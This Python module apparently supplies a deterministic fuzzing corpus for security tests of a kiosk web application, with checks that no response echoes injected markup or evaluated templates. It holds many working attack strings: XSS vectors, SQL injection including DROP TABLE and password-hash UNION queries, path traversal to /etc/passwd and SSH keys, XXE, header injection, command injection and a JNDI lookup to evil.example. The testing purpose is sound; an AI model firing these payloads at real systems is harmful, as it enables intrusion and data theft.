"""A deterministic corpus of hostile inputs for the kiosk's forms, query strings and URLs.

Each entry is a ``Payload``: a stable id (``xss-012``), a kind, and the value, either ``str``
(sent UTF-8 encoded) or ``bytes`` (sent as raw bytes: malformed UTF-8, lone surrogates...).
Hand-written lists are combined programmatically (XSS vectors x contexts that break out of an
attribute, a textarea, a title, a comment...; control and invisible characters inside a real
name; unicode digits in a real NIK); nothing is random, so every run sends the same bytes.

``CORE`` is a short list of ids, one strong entry per kind, that every field receives; the rest
is spread over the fields by the test plan (see test_hostile_inputs.py).

For the "no unescaped echo" check each payload knows the markup it would inject if a page echoed
it raw (``Payload.injected``: tag, attributes, text, as the stdlib html.parser reads the payload
itself), and template-injection payloads know what their evaluation would print
(``Payload.evaluated``): neither may ever show up in a parsed response.
"""

from __future__ import annotations

import functools
import html
from dataclasses import dataclass
from html.parser import HTMLParser
from urllib.parse import quote, unquote

VALID_NIK = "3578011708850003"
NAME = "Siti Aminah"


@dataclass(frozen=True)
class Payload:
    id: str
    kind: str
    value: str | bytes

    @property
    def wire(self) -> bytes:
        """The bytes put on the wire (UTF-8 for text; surrogates, if any, as they come)."""
        if isinstance(self.value, bytes):
            return self.value
        return self.value.encode("utf-8", "surrogatepass")

    @property
    def text(self) -> str:
        """What a server decoding the wire bytes as UTF-8 (with replacement) would read."""
        return self.wire.decode("utf-8", "replace")

    @property
    def injected(self) -> tuple:
        return markup_signature(self.text)

    @property
    def evaluated(self) -> str | None:
        return TEMPLATE_EVALUATED.get(self.value) if isinstance(self.value, str) else None

    def short(self) -> str:
        raw = repr(self.value)
        return f"{self.id} {raw[:60]}{'...' if len(raw) > 60 else ''}"


# --- markup an echo of a payload would inject ------------------------------------------------------

class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[list] = []
        self._last: list | None = None

    def handle_starttag(self, tag, attrs):
        self._last = [tag, tuple(sorted((k, v or "") for k, v in attrs)), ""]
        self.found.append(self._last)

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self._last = None

    def handle_data(self, data):
        if self._last is not None:
            self._last[2] += data


def _elements(text: str) -> list:
    parser = _Collector()
    try:
        parser.feed(text)
        parser.close()
    except Exception:  # noqa: BLE001 - html.parser can choke on odd declarations; nothing to sign
        return []
    return [(tag, attrs, body.strip()) for tag, attrs, body in parser.found]


def _marked(name: str, value: str) -> bool:
    return "kj" in name or "kj" in value or name.startswith(("on", "hx-on"))


ATTRIBUTE_CONTEXTS = (('<kjwrap a="', '">'), ("<kjwrap a='", "'>"), ("<kjwrap a=", ">"))


@functools.lru_cache(maxsize=None)
def markup_signature(text: str) -> tuple:
    """What an unescaped echo of text would add to a page, as (tag, attrs, text) triples.

    Read from text itself, from its URL- and entity-decoded forms (a page that decoded and then
    echoed it raw), and from text pasted raw inside a double-, single- or un-quoted attribute:
    there an attribute it adds is recorded as ("*", attrs, "") when it is an event handler or
    carries a "kj" marker. An element with neither attributes nor text (a bare <b>) cannot be told
    apart from the page's own markup, so the corpus gives its vectors an attribute or some text.
    """
    found = set()
    for variant in {text, unquote(text), unquote(unquote(text)), html.unescape(text)}:
        found.update((tag, attrs, body) for tag, attrs, body in _elements(variant) if attrs or body)
        for opening, closing in ATTRIBUTE_CONTEXTS:
            for tag, attrs, body in _elements(opening + variant + closing):
                if tag == "kjwrap":
                    extra = tuple((k, v) for k, v in attrs if k != "a" and _marked(k, v))
                    if extra:
                        found.add(("*", extra, ""))
                elif attrs or body:
                    found.add((tag, attrs, body))
    return tuple(sorted(found))


# --- the lists -------------------------------------------------------------------------------------

XSS_VECTORS = [
    "<script>alert('kj-xss-1')</script>",
    "<img src=x onerror=alert('kj-xss-2')>",
    "<svg onload=alert('kj-xss-3')>",
    "<svg><script>alert('kj-xss-4')</script></svg>",
    "<a href=\"javascript:alert('kj-xss-5')\">kj-link</a>",
    "<iframe src=\"javascript:alert('kj-xss-6')\"></iframe>",
    "<body onload=alert('kj-xss-7')>",
    "<input autofocus onfocus=alert('kj-xss-8')>",
    "<details open ontoggle=alert('kj-xss-9')>",
    "<form action=\"javascript:alert('kj-xss-10')\"><button>kj-go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('kj-xss-11')>",
    "<div hx-get=\"/staff/ekspor.csv\" hx-trigger=\"load\">kj-htmx</div>",
]
XSS_CONTEXTS = [
    "{}",  # as is
    "\">{}",  # break out of a double-quoted attribute
    "'>{}",  # ... a single-quoted one
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--!>{}",  # out of a comment
    "]]>{}",
    "</noscript>{}",
    "</option></select>{}",
]
XSS_EXTRA = [
    "<ScRiPt>alert('kj-xss-20')</sCrIpT>",
    "<script src=//evil.example/kj.js></script>",
    "<script>alert(String.fromCharCode(75,74))</script>",
    "<<script>alert('kj-xss-21');//<</script>",
    "<scr<script>ipt>alert('kj-xss-22')</scr</script>ipt>",
    "<img src=\"x\" onerror=\"alert('kj-xss-23')\"",
    "<img src=x onerror=alert`kj-xss-24`>",
    "<img/src=x/onerror=alert('kj-xss-25')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=kj-xss-26>",
    "<svg/onload=alert('kj-xss-27')//",
    "<svg><animate onbegin=alert('kj-xss-28') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('kj-xss-29')\"><text x=20 y=20>kj</text></a></svg>",
    "<object data=\"javascript:alert('kj-xss-30')\"></object>",
    "<embed src=\"javascript:alert('kj-xss-31')\">",
    "<iframe srcdoc=\"&lt;script&gt;alert('kj-xss-32')&lt;/script&gt;\"></iframe>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">kj-data</a>",
    "<a href=\"vbscript:msgbox('kj-xss-33')\">kj-vb</a>",
    "<a href=\"jav&#x09;ascript:alert('kj-xss-34')\">kj-tab</a>",
    "<a href=\"&#106;avascript:alert('kj-xss-35')\">kj-ent</a>",
    "<a href=\" javascript:alert('kj-xss-36')\">kj-sp</a>",
    "<button formaction=\"javascript:alert('kj-xss-37')\">kj-fa</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('kj-xss-38')\">",
    "<base href=\"https://evil.example/kj/\">",
    "<link rel=stylesheet href=\"https://evil.example/kj.css\">",
    "<style>@import 'https://evil.example/kj.css';</style>",
    "<div style=\"background:url(javascript:alert('kj-xss-39'))\">kj-style</div>",
    "<video><source onerror=\"alert('kj-xss-40')\"></video>",
    "<audio src=x onerror=alert('kj-xss-41')>",
    "<marquee onstart=alert('kj-xss-42')>kj</marquee>",
    "<isindex action=javascript:alert('kj-xss-43') type=image>",
    "<template><img src=x onerror=alert('kj-xss-44')></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('kj-xss-45')>\">",
    "<!--<img src=\"--><img src=x onerror=alert('kj-xss-46')//\">",
    "<![CDATA[<script>alert('kj-xss-47')</script>]]>",
    "<xmp><script>alert('kj-xss-48')</script></xmp>",
    "<plaintext><script>alert('kj-xss-49')</script>",
    "\" onmouseover=\"alert('kj-xss-50')",
    "' onfocus='alert(\"kj-xss-51\")' autofocus='",
    "\" autofocus onfocus=\"alert('kj-xss-52')\" x=\"",
    "\"/><svg onload=alert('kj-xss-53')>",
    "' style='x:expression(alert(\"kj-xss-54\"))",
    "\" hx-on:click=\"alert('kj-xss-55')\"",
    "\" hx-get=\"/admin/akun?kj=1\" hx-trigger=\"load\" x=\"",
    "javascript:alert('kj-xss-56')",
    "JaVaScRiPt:alert('kj-xss-57')",
    "data:text/html,<script>alert('kj-xss-58')</script>",
    "&lt;script&gt;alert('kj-xss-59')&lt;/script&gt;",
    "&#60;script&#62;alert('kj-xss-60')&#60;/script&#62;",
    "%3Cscript%3Ealert('kj-xss-61')%3C%2Fscript%3E",
    "%253Cscript%253Ealert('kj-xss-62')%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert('kj-xss-63')\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert('kj-xss-64')\uff1c/script\uff1e",
    "<scr\x00ipt>alert('kj-xss-65')</scr\x00ipt>",
    "<img src=x onerror\x0b=alert('kj-xss-66')>",
    "<img\nsrc=x\nonerror=alert('kj-xss-67')>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('kj-xss-68') )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('kj-xss-69')//>\\x3e",
    "<svg><foreignObject><iframe src=\"javascript:alert('kj-xss-70')\"></iframe></foreignObject></svg>",
    "<p id=\"kj-xss-71\" class=\"kj-injected\">kj-paragraph</p>",
    "<input type=hidden name=csrf_token value=kj-xss-72>",
    "<form id=kj-xss-73 action=/admin/akun/baru method=post><input name=username value=kj></form>",
    "</p><h1 id=kj-xss-74>kj-heading</h1>",
    "<b id=kj-xss-75>kj-bold</b>",
    "<img src=\"/static/../s/x\" id=kj-xss-76>",
]
TEMPLATE = [
    "{{7*7}}",
    "{{1234*5678}}",
    "{{ 1234 * 5678 }}",
    "{{'kjtpl'~'evaluated'}}",
    "{% print 'kjtpl' ~ 'printed' %}",
    "{{config}}",
    "{{config.SECRET_KEY}}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__.__builtins__ }}",
    "{% for x in range(3) %}kjloop{% endfor %}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{# kj comment #}",
    "{%- endif %}{{",
    "${1234*5678}",
    "#{1234*5678}",
    "<%= 1234*5678 %>",
    "[[${1234*5678}]]",
    "{{=1234*5678}}",
    "%(max)s %(url)s %(code)s",
]
# What the evaluation of a template payload would print (never present in any response).
TEMPLATE_EVALUATED = {
    "{{1234*5678}}": "7006652", "{{ 1234 * 5678 }}": "7006652", "{{'kjtpl'~'evaluated'}}": "kjtplevaluated",
    "{% print 'kjtpl' ~ 'printed' %}": "kjtplprinted", "{{config}}": "SECRET_KEY",
    "{{config.SECRET_KEY}}": "test-secret-", "{{ self.__init__.__globals__ }}": "__builtins__",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": "<class ",
    "{{ request.application.__globals__.__builtins__ }}": "built-in",
    "{% for x in range(3) %}kjloop{% endfor %}": "kjloopkjloop", "${1234*5678}": "7006652",
    "#{1234*5678}": "7006652", "<%= 1234*5678 %>": "7006652", "[[${1234*5678}]]": "7006652",
    "{{=1234*5678}}": "7006652",
}
SQL = [
    "' OR 1=1 --", "' OR '1'='1", "\" OR \"1\"=\"1", "' OR 1=1#", "') OR ('1'='1", "1' OR '1'='1' /*",
    "admin'--", "admin' #", "' OR 1=1 LIMIT 1 --",
    "'; DROP TABLE registration; --", "1; DROP TABLE staff_user", "'; DELETE FROM audit_entry; --",
    "'; UPDATE staff_user SET role='admin'; --", "'; INSERT INTO staff_user VALUES (1); --",
    "' UNION SELECT NULL,NULL,NULL --", "' UNION SELECT username, password_hash FROM staff_user --",
    "1 UNION ALL SELECT sqlite_version()", "' UNION SELECT version() --",
    "1' AND SLEEP(5) --", "'; SELECT pg_sleep(5); --", "1 AND 1=(SELECT COUNT(*) FROM sqlite_master)",
    "' AND extractvalue(1, concat(0x7e, version())) --", "1' ORDER BY 100 --",
    "%' AND 1=0 UNION SELECT 1 --", "\\'; DROP TABLE draft; --", "' || (SELECT 'kj') || '",
    "1/**/OR/**/1=1", "';COPY (SELECT 1) TO PROGRAM 'id';--", "$$; DROP TABLE kiosk; $$",
    "3578011708850003' OR '1'='1", "KJ-' OR 1=1 --", "%", "_", "%%", "*", "'", "\"", "`", ";", "\\",
    "' AND 1=CAST((SELECT current_user) AS int) --",
]
NUMBERS = [
    "9" * 40, "9" * 400, "1" * 5000, "-1", "-0", "0", "00000000000000000000001", "+1", "--1", "1e309",
    "1e5", "1E-5", "-1e400", "1.5", "0.0000001", "1,5", "1.500.000,5", "Rp -1.500.000", "0x1F", "0o17",
    "0b101", "1_000_000", "NaN", "nan", "Infinity", "-inf", "2147483647", "2147483648", "-2147483649",
    "9223372036854775807", "9223372036854775808", "18446744073709551616", "340282366920938463463374607431768211456",
    "-9223372036854775809", "4294967296", "1" * 16 + "0", " 1 ", "1 2 3", "١",
]
TRAVERSAL = [
    "../../etc/passwd", "../../../../../../../../etc/passwd", "..\\..\\windows\\win.ini", "..\\\\..\\\\boot.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "....//....//etc/passwd",
    "/etc/passwd", "/etc/passwd%00.css", "file:///etc/passwd", "\\\\evil.example\\share",
    "..;/..;/etc/passwd", "/proc/self/environ", "../instance/secrets.json", "../kiosk/config.py",
    "~/.ssh/id_rsa", "C:\\Windows\\System32\\drivers\\etc\\hosts",
]
OPEN_REDIRECT = [
    "//evil.example", "https://evil.example/", "http:evil.example", "/\\evil.example", "\\\\evil.example",
    "/%2F%2Fevil.example", "/\t/evil.example", "/\n/evil.example", "\x00//evil.example", " //evil.example",
    "///evil.example", "https:/evil.example",
]
HEADER_INJECTION = [
    "foo\r\nSet-Cookie: kj=injected", "foo\nX-Kj-Injected: 1", "/\r\nLocation: https://evil.example",
    "%0d%0aSet-Cookie:%20kj=injected", "%0D%0AX-Kj-Injected:%201", "x\r\n\r\n<html>kj-split</html>",
    "\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert('kj-split')</script>",
    "foo\u2028X-Kj-Injected: 1", "foo\u0085X-Kj-Injected: 1", "foo\rX-Kj-Injected: 1",
    "%E5%98%8A%E5%98%8DX-Kj-Injected:%201", "\u560a\u560dX-Kj-Injected: 1",
]
JSON_XML = [
    "{}", "[]", "null", "true", "{\"nik\": \"3578011708850003\"}", "{\"__proto__\": {\"admin\": true}}",
    "{\"$where\": \"1 == 1\"}", "{\"$gt\": \"\"}", "[\"a\", {\"b\": null}]", "{\"a\":" * 50 + "1" + "}" * 50,
    "[" * 500 + "]" * 500, "\"unterminated", "{'single': 'quotes'}", "<?xml version=\"1.0\"?><a>kj</a>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
    "&amp;", "&#0;", "&#x0;", "&#xD800;", "&#1114112;", "&nonexistent;", "&lt;&gt;&quot;&apos;",
]
COMMANDS = [
    "; ls -la", "$(id)", "`id`", "| cat /etc/passwd", "&& whoami", "${jndi:ldap://evil.example/kj}",
    "%s%s%s%s%s%n", "%x%x%x%x", "{0}{1}{__class__}", "{}", "%p%p%p",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"kj\")", "+1+1", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "#N/A", "=1+1",
]
SIZES = [
    "A" * 100_000,
    "9" * 100_000,
    "kj " * 33_000,
    "<" * 100_000,
    "é" * 50_000,
    "😀" * 25_000,
    "A" * 1_000_000,
    "x" * 255, "x" * 256, "x" * 257, "x" * 4097, "Siti Aminah " * 20,
    NAME + "\u0301" * 5000,  # one letter carrying a mountain of combining marks
]
LONG_WORDS = [
    "Pneumonoultramicroscopicsilicovolcanoconiosis" * 100, "a" * 5000, "\u0627" * 3000,
    "\u4e2d" * 4000, "KJ-" * 2000, "3578011708850003" * 300, "\u00df" * 3000, "\ufdfd" * 1000,
]
EMPTYISH = ["", " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", " \u2003 \u2009 ", "\u200b", "\ufeff", "\u2800"]
EMOJI_COMBINING = [
    "\U0001f600", "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1ee\U0001f1e9",
    "\U0001f44d\U0001f3fd", "\U0001f3f3\ufe0f\u200d\U0001f308", "Siti \U0001f600 Aminah",
    "e\u0301", "\u0301", "\u0301\u0302\u0303Siti", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319"
    "\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u0300\u0301l\u0341g\u0315o",
    "\u1100\u1161\u11a8", "\ufffd", "\uffff", "\ufffe", "\ue000", "\U0010ffff",
    "\U0001d54a\U0001d55a\U0001d565\U0001d55a",
    "\u0130stanbul", "\u01c5", "\u2126", "\u212b", "\ufb01", "\u0149", "Se\u00f1or \u00d1o\u00f1o",
    "\u0e01\u0e33", "\u0915\u094d\u0937",
]
MALFORMED_UTF8 = [
    b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xe2\x82\x28", b"\xf0\x28\x8c\xbc",
    b"\xf0\x90\x28\xbc", b"\xf8\xa1\xa1\xa1\xa1", b"\xfc\xa1\xa1\xa1\xa1\xa1", b"\xc0\xaf", b"\xe0\x80\xaf",
    b"\xc0\x80", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xe2\x82", b"Siti \xe9 Aminah", b"3578011708850003\xff",
    b"<script>alert('kj-bytes')</script>\xff", b"\xef\xbb\xbf" + NAME.encode(), b"\x00\xff\x00\xfe",
    b"%\xff%", b"\xc3", b"Jos\xe9 M\xfcller",
]
UNICODE_DIGITS = [
    "".join(chr(base + int(d)) for d in VALID_NIK)
    for base in (0x0660, 0x06F0, 0xFF10, 0x0966, 0x09E6, 0x0E50, 0x1D7CE, 0x1D7EC, 0x0BE6, 0x1040, 0x17E0)
] + [
    "\u00b3\u2075\u2077\u2078" + VALID_NIK[4:],  # superscripts
    "\u2462\u2464" + VALID_NIK[2:],  # circled digits
    "\u216b", "\u2167\u2160", "\u0663\u0665" + VALID_NIK[2:],  # mixed Arabic-Indic and ASCII
    "\uff10\uff18\uff11\uff12 \uff13\uff14\uff15\uff16 \uff17\uff18\uff19\uff10",  # full-width phone
    "\u0660\u0668\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669",  # Arabic-Indic phone
    "\uff11.\uff15\uff10\uff10.\uff10\uff10\uff10",  # full-width income
    "\u0661\u066c\u0665\u0660\u0660\u066c\u0660\u0660\u0660",  # Arabic-Indic with Arabic thousands separator
]
CONTROL_CHARS = [chr(c) for c in range(0x00, 0x20)] + ["\x7f", "\x80", "\x85", "\x9b", "\x9f"]
INVISIBLE_CHARS = [
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b",
    "\u200c", "\u200d", "\u200e", "\u200f", "\ufeff", "\u061c", "\u2060", "\u180e", "\u00ad", "\u034f",
    "\u2028", "\u2029", "\u115f", "\u3164", "\U000e0041",
]
CONTROL_EXTRA = [
    "\x00", "\x00" * 64, VALID_NIK + "\x00", "\x00" + VALID_NIK, "admin\x00",
    "Siti\x00<script>alert('kj-nul')</script>",
    "Ahmad\u202egnp.exe", "\u202e" + VALID_NIK, "\u202dKJ-ABCD-1234", VALID_NIK[:8] + "\u200b" + VALID_NIK[8:],
    "\x1b[31mred\x1b[0m", "\x08\x08\x08\x08admin", "line1\rline2", "\u0000".join("abc"),
]


# --- assembly ------------------------------------------------------------------------------------------

def _build() -> tuple[Payload, ...]:
    out: list[Payload] = []
    seen: set = set()
    counters: dict[str, int] = {}

    def add(kind: str, value: str | bytes) -> None:
        if value in seen:
            return
        seen.add(value)
        counters[kind] = counters.get(kind, 0) + 1
        out.append(Payload(f"{kind}-{counters[kind]:03d}", kind, value))

    for vector in XSS_VECTORS:
        for context in XSS_CONTEXTS:
            add("xss", context.format(vector))
    for value in XSS_EXTRA:
        add("xss", value)
    # the main vectors once more, URL-encoded and entity-encoded (must come back as literal text)
    for vector in XSS_VECTORS[:6]:
        add("xss", quote(vector))
        add("xss", vector.replace("<", "&lt;").replace(">", "&gt;"))
    for kind, values in (("template", TEMPLATE), ("sql", SQL), ("number", NUMBERS), ("traversal", TRAVERSAL),
                         ("redirect", OPEN_REDIRECT), ("header", HEADER_INJECTION), ("jsonxml", JSON_XML),
                         ("command", COMMANDS), ("size", SIZES), ("longword", LONG_WORDS),
                         ("empty", EMPTYISH), ("emoji", EMOJI_COMBINING), ("bytes", MALFORMED_UTF8),
                         ("digits", UNICODE_DIGITS), ("control", CONTROL_EXTRA)):
        for value in values:
            add(kind, value)
    for ch in CONTROL_CHARS:
        add("control", f"Siti{ch}Aminah")
    for ch in INVISIBLE_CHARS:
        add("invisible", f"Siti{ch}Aminah")
    for ch in ("\u202e", "\u200b", "\u2066", "\ufeff"):
        add("invisible", f"{ch}{VALID_NIK}{ch}")
    # Lone surrogates cannot be UTF-8 encoded by an ordinary client: send them the way a broken one would.
    for value in ("\ud800", "\udfff", "Siti\ud83dAminah", "\udc80\udc81"):
        add("bytes", value.encode("utf-8", "surrogatepass"))
    return tuple(out)


CORPUS: tuple[Payload, ...] = _build()
BY_ID = {p.id: p for p in CORPUS}

# One strong entry per kind: every field gets all of these.
CORE_IDS = (
    "xss-001",  # <script>
    "xss-012",  # "> breaking out of an attribute, img onerror
    "xss-023",  # '> + svg onload
    "xss-004",  # </textarea> + script
    "template-002",  # {{1234*5678}}
    "sql-001",  # ' OR 1=1 --
    "size-001",  # 100 KB of A
    "control-001",  # NUL
    "control-006",  # Siti<script> after a NUL
    "invisible-005",  # RTL override
    "bytes-001",  # a lone 0xFF byte
    "bytes-014",  # UTF-8 of a lone surrogate
    "digits-001",  # Arabic-Indic NIK
    "digits-003",  # full-width NIK
    "traversal-001",  # ../../etc/passwd
    "header-001",  # CRLF Set-Cookie
    "number-010",  # 1e309
    "number-004",  # -1
    "emoji-002",  # ZWJ family
    "longword-001",
)
CORE: tuple[Payload, ...] = tuple(BY_ID[i] for i in CORE_IDS)
